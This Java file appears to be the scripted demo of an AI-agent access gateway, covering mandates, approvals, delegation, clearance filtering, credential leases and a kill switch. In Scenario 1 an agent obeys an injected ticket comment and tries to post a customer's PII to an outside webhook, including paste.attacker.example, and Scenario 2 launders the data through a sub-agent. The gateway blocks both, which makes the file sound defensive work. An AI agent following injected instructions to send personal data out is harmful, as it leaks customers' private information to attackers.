package dev.mandate.app.demo;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.MissingNode;
import dev.mandate.app.MandateNode;
import dev.mandate.core.mandate.Mandate;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.McpHttpClientTransportAuthorizationException;
import io.modelcontextprotocol.spec.McpError;
import io.modelcontextprotocol.spec.McpSchema;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/**
 * The scripted agent of {@code mandate demo}: scenarios 1, 4, 2, 5, 6 and 7 of SCENARIOS.md in order, over the node's
 * real HTTP APIs (REST with the admin token for the operator's steps; SVIDs, token exchange and MCP through the
 * gateway for the agents'), each step narrated with the outcome it expects and the one it got.
 */
final class DemoScript {
    static final String SUPPORT_BOT = "support-bot";
    static final String SUMMARIZER = "summarizer";
    static final String CUSTOMER = "c-1001";
    static final String ALICE = "alice";
    private static final Pattern APPROVAL_ID = Pattern.compile("apr_[0-9a-f]+");
    private static final List<String> TRIAGE_TOOLS =
            List.of("tickets.read", "crm.get_customer", "docs.search", "webhook.post");
    private static final List<String> ALICE_TOOLS = List.of("docs.search", "docs.board_minutes");

    /**
     * One gateway call as the agent saw it, with the details of its {@code gateway.call} audit event (empty when it
     * was refused before the call was decided) and the JSON-RPC error code it was refused with (0 if none).
     */
    private record Call(
            Outcome outcome,
            String reason,
            String text,
            List<String> links,
            JsonNode audit,
            @Nullable String approvalId,
            int errorCode) {}

    private final DemoEstate estate;
    private final MandateNode node;
    private final Narrator say;
    private final Http http;
    private final Map<String, String> admin;
    private final List<McpSyncClient> clients = new ArrayList<>();
    private long auditCursor;

    DemoScript(DemoEstate estate, Narrator say) {
        this.estate = estate;
        this.node = estate.node();
        this.say = say;
        this.http = new Http("http://127.0.0.1:" + node.port());
        try {
            this.admin = Map.of(
                    "Authorization",
                    "Bearer " + Files.readString(adminTokenFile()).strip());
        } catch (java.io.IOException e) {
            throw new IllegalStateException("cannot read the admin token " + adminTokenFile(), e);
        }
    }

    Path adminTokenFile() {
        return node.dataDir().resolve("admin.token");
    }

    /** Runs every step; a step that throws is reported as {@link Outcome#ERROR} and ends the script. */
    void run() {
        try {
            play();
        } catch (RuntimeException e) {
            say.outcome(Outcome.OK, Outcome.ERROR, "the script stopped: " + e.getMessage());
        } finally {
            for (McpSyncClient c : clients) {
                try {
                    c.close();
                } catch (RuntimeException e) {
                    // The session may already be gone (its mandate ended); nothing to clean up then.
                }
            }
        }
    }

    private void play() {
        say.section("Identity: agents register, join, and exchange their SVID for a mandate");
        say.step("The operator registers two agents of team-support");
        register(SUPPORT_BOT, "triage");
        register(SUMMARIZER, "triage");
        say.outcome(Outcome.OK, Outcome.OK, "support-bot and summarizer, purpose triage, tier autonomous");

        say.step("Each agent redeems a one-time join token for its SVID");
        AgentClient bot = new AgentClient(http, SUPPORT_BOT);
        AgentClient summarizer = new AgentClient(http, SUMMARIZER);
        String botId = bot.join(joinToken(SUPPORT_BOT));
        String sumId = summarizer.join(joinToken(SUMMARIZER));
        say.call("POST /v1/agents/{name}/join-tokens, POST /v1/svid {joinToken, csr}");
        say.outcome(Outcome.OK, Outcome.OK, botId + ", " + sumId);

        say.step("support-bot exchanges its JWT-SVID for a DPoP-bound mandate: \"triage ticket 42\"");
        say.call("POST /oauth2/token grant_type=token-exchange purpose=triage tools=" + TRIAGE_TOOLS + " ttl=600s");
        AgentClient.Held task = bot.open("triage", TRIAGE_TOOLS, 600);
        say.outcome(Outcome.OK, Outcome.OK, "mandate " + task.mandateId() + " (token bound to the agent's DPoP key)");
        McpSyncClient botMcp = connect(bot, task);

        say.section("Scenario 1 - the lethal trifecta: untrusted text + pii + egress in one task");
        say.step("support-bot reads ticket 42 (customers write tickets: the text is untrusted)");
        Call ticket = call(botMcp, "tickets.read", Map.of("ticketId", "42"));
        say.outcome(Outcome.ALLOW, ticket.outcome(), ticket.reason());
        say.note("ticket says: " + ticket.text().replace("\n", "\n                  "));

        say.step("support-bot reads the customer record (confidential, pii) through a JIT PostgreSQL role");
        Call record = call(botMcp, "crm.get_customer", Map.of("customerId", CUSTOMER));
        say.outcome(Outcome.ALLOW, record.outcome(), record.reason());
        CustomerDb.Login injected = estate.customers().lastLogin();
        say.note("the crm server logged in to PostgreSQL as "
                + (injected == null ? "(nobody: no credential arrived)" : injected.user())
                + ", from the Authorization header the gateway injected; the agent never held it");
        say.note("lease: " + leases(task.mandateId()));

        say.step("Obeying the injected comment, support-bot posts the record to an outside webhook");
        Map<String, Object> exfiltrate = Map.of("url", SampleTools.EXFILTRATION_URL, "body", record.text());
        Call blocked = call(botMcp, "webhook.post", exfiltrate);
        say.outcome(Outcome.APPROVAL_REQUIRED, blocked.outcome(), blocked.reason());
        say.note("the webhook received " + estate.tools().deliveries.size() + " deliveries");

        say.section("Scenario 4 - an approval is bound to one exact call");
        String approvalId = blocked.approvalId();
        say.step("security-oncall approves that exact call (mandate, tool, argument digest) in the approvals API");
        if (approvalId == null) {
            say.outcome(Outcome.OK, Outcome.ERROR, "the gateway named no approval id");
        } else {
            say.call("POST /v1/approvals/" + approvalId + "/approve");
            JsonNode approved = http.json(
                            "POST",
                            "/v1/approvals/" + approvalId + "/approve",
                            Map.of("by", "security-oncall", "reason", "customer asked for a copy"),
                            admin)
                    .ok("approve");
            say.outcome(
                    Outcome.OK,
                    Outcome.OK,
                    "approval " + approvalId + " is " + approved.path("state").asText() + " for digest "
                            + shortDigest(approved.path("argumentDigest").asText()));
        }

        say.step("The identical call passes, once");
        Call once = call(botMcp, "webhook.post", exfiltrate);
        say.outcome(Outcome.ALLOW, once.outcome(), once.reason());
        say.note("the webhook received " + estate.tools().deliveries.size() + " delivery: " + once.text());

        say.step("The same call again is held again: the approval was used");
        Call again = call(botMcp, "webhook.post", exfiltrate);
        say.outcome(Outcome.APPROVAL_REQUIRED, again.outcome(), again.reason());

        say.step("The same tool with another URL is held too: the approval named one argument digest");
        Call other = call(
                botMcp, "webhook.post", Map.of("url", "https://paste.attacker.example/new", "body", record.text()));
        say.outcome(Outcome.APPROVAL_REQUIRED, other.outcome(), other.reason());

        say.section("Scenario 2 - laundering through a sub-agent");
        say.step("support-bot delegates \"summarize the customer's history\" to summarizer");
        say.call("POST /oauth2/token subject_token=<support-bot's mandate> actor_token=<summarizer's SVID>"
                + " dpop_jkt=<summarizer's key> DPoP=<support-bot's proof> purpose=triage"
                + " tools=[docs.search, webhook.post]");
        // A child keeps its parent's purpose and may only narrow the tools and the lifetime.
        AgentClient.Held child =
                bot.delegateTo(task, summarizer, "triage", List.of("docs.search", "webhook.post"), 300);
        Mandate childMandate = node.mandates().get(child.mandateId());
        say.outcome(
                Outcome.OK,
                Outcome.OK,
                "child mandate " + child.mandateId() + " (depth " + childMandate.depth() + ", parent "
                        + childMandate.parentId() + ")");
        McpSyncClient sumMcp = connect(summarizer, child);

        say.step("summarizer searches the knowledge base; its flow starts with the parent's labels");
        Call search = call(sumMcp, "docs.search", Map.of("query", "plan changes and invoices"));
        say.outcome(Outcome.ALLOW, search.outcome(), search.reason());

        say.step("summarizer posts its summary to the outside webhook");
        Call laundered = call(
                sumMcp,
                "webhook.post",
                Map.of("url", SampleTools.EXFILTRATION_URL, "body", "summary of " + CUSTOMER + ": " + record.text()));
        say.outcome(Outcome.DENY, laundered.outcome(), laundered.reason());

        say.section("Scenario 5 - reading on someone's behalf: what alice may not read, her agent does not see");
        say.step(
                "alice (clearance confidential) asks support-bot to search the docs: it opens a mandate on her behalf");
        say.call("POST /oauth2/token grant_type=token-exchange purpose=triage tools=" + ALICE_TOOLS + " ttl=300s"
                + " on_behalf_of=<alice's ID token from " + SampleIdp.ISSUER + ", clearance: confidential>");
        AgentClient.Held forAlice =
                bot.openFor(estate.idp().idToken(ALICE, "confidential"), "triage", ALICE_TOOLS, 300);
        JsonNode aliceMandate = http.json("GET", "/v1/mandates/" + forAlice.mandateId(), null, admin)
                .ok("GET /v1/mandates");
        say.outcome(
                Outcome.OK,
                Outcome.OK,
                "mandate " + forAlice.mandateId() + " acts for "
                        + aliceMandate.path("onBehalfOf").asText() + " with clearance "
                        + aliceMandate.path("clearance").asText());
        say.note("the node verified the ID token against the demo IdP's public key (oidc.jwks-file "
                + estate.idp().jwksFile() + ")");
        McpSyncClient aliceMcp = connect(bot, forAlice);

        say.step("support-bot searches the docs for alice; one article found is restricted");
        Call forHer = call(aliceMcp, "docs.search", Map.of("query", "invoices and price changes"));
        boolean leaked = forHer.links().stream()
                .anyMatch(l -> l.equals(SampleTools.RESTRICTED_DOC) || l.startsWith(SampleTools.RESTRICTED_DOC + " "));
        String withheld = forHer.audit().path("withheldUris").asText("");
        boolean recorded = withheld.contains(SampleTools.RESTRICTED_DOC);
        say.outcome(
                Outcome.ALLOW,
                forHer.outcome() == Outcome.ALLOW && (leaked || !recorded) ? Outcome.ERROR : forHer.outcome(),
                forHer.reason()
                        + (leaked ? "; but " + SampleTools.RESTRICTED_DOC + " reached the agent" : "")
                        + (recorded ? "" : "; but the audit event names nothing withheld"));
        say.note("support-bot received: " + (forHer.links().isEmpty() ? "nothing" : String.join(", ", forHer.links())));
        say.note("withheld before the agent saw it: " + (withheld.isEmpty() ? "nothing" : withheld)
                + " (alice may not read it, so her agent cannot surface it to her)");
        say.note("the gateway.call audit event says clearance="
                + forHer.audit().path("clearance").asText("?")
                + ", withheld=" + forHer.audit().path("withheld").asText("0")
                + ", withheldLabels=" + forHer.audit().path("withheldLabels").asText("?")
                + ", withheldUris=" + withheld);

        say.step("support-bot asks for the board's minutes for alice: the whole result is above her clearance");
        Call minutes = call(aliceMcp, "docs.board_minutes", Map.of());
        JsonNode refused = lastCall();
        int asked = estate.tools().minutesRead.get();
        // -32011 (above-clearance), not a policy denial: the decision was allow, and the call never left the gateway.
        boolean wholeCallRefused = minutes.errorCode() == -32011
                && refused.path("decision").asText().equals("allow")
                && refused.path("upstreamStatus").asText().equals("not-called")
                && asked == 0;
        say.outcome(
                Outcome.DENY,
                minutes.outcome() == Outcome.DENY && !wholeCallRefused ? Outcome.ERROR : minutes.outcome(),
                "JSON-RPC error " + minutes.errorCode() + ": " + minutes.reason()
                        + (wholeCallRefused
                                ? ""
                                : "; but it was not an above-clearance refusal of an allowed, unforwarded call"));
        say.note("the policies allow docs.board_minutes (support-triage); the catalog labels its result restricted,"
                + " above alice's clearance, so the gateway refuses the call as a whole before forwarding it");
        say.note("the docs server was asked for the minutes " + asked + " times; alice's flow labels stay {"
                + refused.path("labelsAfter").asText("") + "}");
        say.note("the gateway.call audit event says decision="
                + refused.path("decision").asText("?")
                + ", upstreamStatus=" + refused.path("upstreamStatus").asText("?")
                + ", clearance=" + refused.path("clearance").asText("?")
                + ", withheldLabels=" + refused.path("withheldLabels").asText("?"));

        say.section("Scenario 6 - standing credentials, gone: the task closes");
        CustomerDb.Login login = estate.customers().lastLogin();
        say.step("The task closes: its mandate (and the child) end, their leases are revoked");
        if (login != null) {
            say.note("before: role " + login.user() + " " + (canLogIn(login) ? "logs in" : "cannot log in"));
        }
        say.call("POST /v1/mandates/" + task.mandateId() + "/close");
        http.json("POST", "/v1/mandates/" + task.mandateId() + "/close", Map.of(), admin)
                .ok("close");
        say.outcome(Outcome.OK, Outcome.OK, "lease: " + leases(task.mandateId()));

        say.step("Proof: log in to PostgreSQL with the role and password the customer server was given");
        if (login == null) {
            say.outcome(Outcome.REFUSED, Outcome.ERROR, "the customer server never received a credential");
        } else {
            say.call("jdbc:postgresql://127.0.0.1/" + SamplePostgres.DATABASE + " user=" + login.user()
                    + " password=<the leased one>");
            try (Connection c = estate.customers().connect(login)) {
                say.outcome(Outcome.REFUSED, Outcome.OK, "the role still logs in (valid: " + c.isValid(2) + ")");
            } catch (SQLException e) {
                say.outcome(Outcome.REFUSED, Outcome.REFUSED, "PostgreSQL: " + e.getMessage());
            }
        }

        say.step("support-bot tries the ticket again with its old mandate token");
        Call late = call(botMcp, "tickets.read", Map.of("ticketId", "42"));
        say.outcome(Outcome.DENY, late.outcome(), late.reason());

        say.section("Scenario 7 - the kill switch");
        say.step("support-bot opens a new mandate and works");
        AgentClient.Held second = bot.open("triage", List.of("tickets.read"), 600);
        McpSyncClient secondMcp = connect(bot, second);
        Call working = call(secondMcp, "tickets.read", Map.of("ticketId", "42"));
        say.outcome(Outcome.ALLOW, working.outcome(), "mandate " + second.mandateId() + "; " + working.reason());

        say.step("The operator presses support-bot's kill switch; its very next call is denied");
        say.call("POST /v1/agents/" + SUPPORT_BOT + "/revoke");
        long pressed = System.nanoTime();
        JsonNode killed = http.json(
                        "POST", "/v1/agents/" + SUPPORT_BOT + "/revoke", Map.of("reason", "demo: kill switch"), admin)
                .ok("kill switch");
        Call after = call(secondMcp, "tickets.read", Map.of("ticketId", "42"));
        long micros = (System.nanoTime() - pressed) / 1000;
        say.outcome(
                Outcome.DENY,
                after.outcome(),
                after.reason() + " [revoked " + killed.path("revoked") + "; kill switch pressed -> next call denied in "
                        + (micros / 1000.0) + " ms, over HTTP]");

        say.section("The audit chain");
        say.step("Verify the hash chain and the signed checkpoints of everything above");
        say.call("POST /v1/audit/verify   (the same as `mandate audit verify`)");
        JsonNode verified = http.json("POST", "/v1/audit/verify", null, admin).ok("audit verify");
        say.outcome(
                Outcome.OK,
                verified.path("ok").asBoolean() ? Outcome.OK : Outcome.ERROR,
                "ok=" + verified.path("ok").asBoolean() + ", "
                        + verified.path("eventsChecked").asLong()
                        + " events and " + verified.path("checkpointsChecked").asLong() + " checkpoints checked"
                        + (verified.path("ok").asBoolean() ? "" : "; broken at " + verified.path("brokenSeq")));
    }

    private void register(String name, String purpose) {
        http.json(
                        "POST",
                        "/v1/agents",
                        Map.of(
                                "name",
                                name,
                                "owner",
                                "team-support",
                                "tier",
                                "autonomous",
                                "purposes",
                                List.of(purpose)),
                        admin)
                .ok("register " + name);
        say.call("POST /v1/agents {name: " + name + ", owner: team-support, tier: autonomous, purposes: [" + purpose
                + "]}");
    }

    private String joinToken(String agent) {
        return http.json("POST", "/v1/agents/" + agent + "/join-tokens", Map.of(), admin)
                .ok("join token")
                .path("token")
                .asText();
    }

    private McpSyncClient connect(AgentClient agent, AgentClient.Held mandate) {
        McpSyncClient c = agent.mcp(mandate);
        clients.add(c);
        return c;
    }

    private Call call(McpSyncClient client, String tool, Map<String, Object> args) {
        say.call("tools/call " + tool + " " + abbreviate(args.toString()));
        Call c;
        try {
            McpSchema.CallToolResult r = client.callTool(new McpSchema.CallToolRequest(tool, args));
            StringBuilder text = new StringBuilder();
            List<String> links = new ArrayList<>();
            for (McpSchema.Content content : r.content()) {
                if (content instanceof McpSchema.TextContent t) {
                    text.append(t.text());
                } else if (content instanceof McpSchema.ResourceLink l) {
                    links.add(l.uri() + (l.title() == null ? "" : " '" + l.title() + "'"));
                } else if (content instanceof McpSchema.EmbeddedResource e) {
                    links.add(e.resource().uri());
                }
            }
            JsonNode audit = lastCall();
            c = new Call(
                    Outcome.ALLOW,
                    (Boolean.TRUE.equals(r.isError()) ? "the tool answered an error: " + text + "; " : "")
                            + "flow labels now {" + audit.path("labelsAfter").asText("") + "}",
                    text.toString(),
                    List.copyOf(links),
                    audit,
                    null,
                    0);
        } catch (McpError e) {
            int code = e.getJsonRpcError() == null ? 0 : e.getJsonRpcError().code();
            Outcome o = switch (code) {
                case -32004 -> Outcome.APPROVAL_REQUIRED;
                case -32003, -32005, -32001, -32011 -> Outcome.DENY;
                default -> Outcome.ERROR;
            };
            Matcher m = APPROVAL_ID.matcher(String.valueOf(e.getMessage()));
            c = new Call(
                    o,
                    String.valueOf(e.getMessage()),
                    "",
                    List.of(),
                    MissingNode.getInstance(),
                    m.find() ? m.group() : null,
                    code);
        } catch (RuntimeException e) {
            // A mandate that is no longer live is refused at authentication: HTTP 401 before any JSON-RPC answer.
            McpHttpClientTransportAuthorizationException refused = authorizationError(e);
            if (refused == null) {
                c = new Call(
                        Outcome.ERROR,
                        String.valueOf(e.getMessage()),
                        "",
                        List.of(),
                        MissingNode.getInstance(),
                        null,
                        0);
            } else {
                HttpResponse.ResponseInfo info = refused.getResponseInfo();
                c = new Call(
                        Outcome.DENY,
                        "HTTP " + info.statusCode() + " from the gateway; WWW-Authenticate: "
                                + info.headers().firstValue("WWW-Authenticate").orElse("(none)"),
                        "",
                        List.of(),
                        MissingNode.getInstance(),
                        null,
                        0);
            }
        }
        return c;
    }

    private static @Nullable McpHttpClientTransportAuthorizationException authorizationError(Throwable e) {
        for (Throwable t = e; t != null; t = t.getCause()) {
            if (t instanceof McpHttpClientTransportAuthorizationException a) {
                return a;
            }
        }
        return null;
    }

    /**
     * The details of the newest gateway.call audit event (missing if there is none), following the log from where
     * the last look ended.
     */
    private JsonNode lastCall() {
        JsonNode found = MissingNode.getInstance();
        while (true) {
            JsonNode page = http.json("GET", "/v1/audit?after=" + auditCursor + "&limit=100", null, admin)
                    .ok("GET /v1/audit")
                    .path("events");
            if (page.isEmpty()) {
                return found;
            }
            for (JsonNode e : page) {
                auditCursor = e.path("seq").asLong();
                if (e.path("type").asText().equals("gateway.call")) {
                    found = e.path("details");
                }
            }
        }
    }

    private String leases(String mandateId) {
        JsonNode list = http.json("GET", "/v1/leases?mandate=" + mandateId, null, admin)
                .ok("GET /v1/leases")
                .path("leases");
        List<String> out = new ArrayList<>();
        for (JsonNode l : list) {
            out.add(l.path("id").asText() + " " + l.path("backend").asText() + "/"
                    + l.path("scope").asText() + " "
                    + l.path("state").asText()
                    + (l.hasNonNull("endReason") ? " (" + l.path("endReason").asText() + ")" : "")
                    + ", expires " + l.path("expires").asText());
        }
        return out.isEmpty() ? "none" : String.join("; ", out);
    }

    private boolean canLogIn(CustomerDb.Login login) {
        try (Connection c = estate.customers().connect(login)) {
            return c.isValid(2);
        } catch (SQLException e) {
            return false;
        }
    }

    private static String shortDigest(String digest) {
        return digest.length() > 16 ? digest.substring(0, 16) + "..." : digest;
    }

    private static String abbreviate(String text) {
        return text.length() > 110 ? text.substring(0, 107) + "..." : text;
    }
}
